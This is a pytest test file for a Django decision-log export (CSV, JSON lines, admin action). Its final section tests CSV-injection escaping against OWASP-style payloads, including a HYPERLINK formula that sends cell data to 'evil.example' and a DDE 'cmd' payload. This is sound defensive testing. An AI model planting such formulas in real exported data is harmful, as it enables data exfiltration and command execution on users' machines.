"""Export of the raw log: CSV and JSON lines, from the command and the admin action."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import CommandError, call_command

from apps.quality.models import DecisionEvent
from tests.quality.logs import decision, drain, lease, minute_ms, write

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def logged(redis_client, key_prefix) -> int:
    start = minute_ms(dt.datetime.now(dt.UTC)) - 30 * 60_000
    write(redis_client, key_prefix, decision(start + 2, "deny"), decision(start + 1))
    write(redis_client, key_prefix, lease(start + 3, "acquire", "m1", customer="bob", expires_ms=start + 9),
          customer="bob")  # fmt: skip
    write(redis_client, key_prefix, decision(start + 60 * 60_000))  # an hour later: out of the range below
    drain(redis_client, key_prefix)
    return start


def export(start: int, fmt: str, *extra: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    begin = dt.datetime.fromtimestamp(start / 1000, tz=dt.UTC).isoformat()
    end = dt.datetime.fromtimestamp((start + 60_000) / 1000, tz=dt.UTC).isoformat()
    call_command("export_decision_log", "--from", begin, "--to", end, "--format", fmt, *extra, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_csv_has_a_header_and_the_range_in_time_order(logged) -> None:
    text, err = export(logged, "csv")

    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["at_ms"], row["kind"], row["customer"]) for row in rows] == [
        (str(logged + 1), "allow", "acme"), (str(logged + 2), "deny", "acme"), (str(logged + 3), "acquire", "bob"),
    ]  # fmt: skip
    assert rows[2]["lease"] == "m1"
    assert rows[2]["expires_ms"] == str(logged + 9)
    assert rows[0]["shadow"] == "false"
    assert rows[0]["at"].endswith("+00:00")
    assert "Wrote 3 log entries as csv" in err


def test_jsonl_is_one_object_a_line_with_numbers_as_numbers(logged) -> None:
    text, _ = export(logged, "jsonl", "--customer", "acme")

    records = [json.loads(line) for line in text.splitlines()]
    assert [record["kind"] for record in records] == ["allow", "deny"]
    assert records[0]["at_ms"] == logged + 1
    assert records[0]["quantity"] == 2
    assert records[0]["shadow"] is False


def test_the_output_file_is_written_whole(logged, tmp_path) -> None:
    target = tmp_path / "log.jsonl"

    export(logged, "jsonl", "--output", str(target))

    assert len(target.read_text().splitlines()) == 3
    assert not (tmp_path / "log.jsonl.part").exists()


def test_bad_options_are_refused() -> None:
    with pytest.raises(CommandError, match="not a date"):
        call_command("export_decision_log", "--from", "yesterday", "--to", "2025-01-01", stdout=io.StringIO())
    with pytest.raises(CommandError, match="after --from"):
        call_command("export_decision_log", "--from", "2025-01-02", "--to", "2025-01-01", stdout=io.StringIO())


def test_the_admin_exports_the_selected_entries(logged, admin_client) -> None:
    chosen = DecisionEvent.objects.filter(customer="acme").order_by("at")[:2]

    response = admin_client.post(
        "/admin/quality/decisionevent/",
        {"action": "export_jsonl", "_selected_action": [event.pk for event in chosen]},
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-ndjson"
    body = b"".join(response.streaming_content).decode()
    assert [json.loads(line)["at_ms"] for line in body.splitlines()] == [logged + 1, logged + 2]


# What a spreadsheet would run as a formula, as a customer and as a counter key (OWASP's CSV injection list):
# = + - @ and a leading tab or carriage return, which a spreadsheet drops before it looks for the formula.
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1",
            "\r=1+1")  # fmt: skip


@pytest.fixture
def formulas_logged(redis_client, key_prefix) -> int:
    """One decision per formula, whose customer and counter key are that formula; drained into PostgreSQL."""
    start = minute_ms(dt.datetime.now(dt.UTC)) - 30 * 60_000
    entries = [{**decision(start + n, customer=text), "k": text} for n, text in enumerate(FORMULAS)]
    write(redis_client, key_prefix, *entries)
    drain(redis_client, key_prefix)
    return start


def csv_cells(text: str) -> list[tuple[str, str]]:
    return [(row["customer"], row["key"]) for row in csv.DictReader(io.StringIO(text, newline=""))]


def test_the_command_writes_a_would_be_formula_with_a_quote_in_front(formulas_logged) -> None:
    text, _ = export(formulas_logged, "csv")

    assert csv_cells(text) == [("'" + formula, "'" + formula) for formula in FORMULAS]


def test_the_admin_action_writes_a_would_be_formula_with_a_quote_in_front(formulas_logged, admin_client) -> None:
    response = admin_client.post(
        "/admin/quality/decisionevent/",
        {"action": "export_csv", "_selected_action": list(DecisionEvent.objects.values_list("pk", flat=True))},
    )

    assert response.status_code == 200
    assert csv_cells(b"".join(response.streaming_content).decode()) == [
        ("'" + formula, "'" + formula) for formula in FORMULAS
    ]


def test_json_lines_keep_a_would_be_formula_verbatim(formulas_logged) -> None:
    text, _ = export(formulas_logged, "jsonl")

    assert [json.loads(line)["customer"] for line in text.splitlines()] == list(FORMULAS)
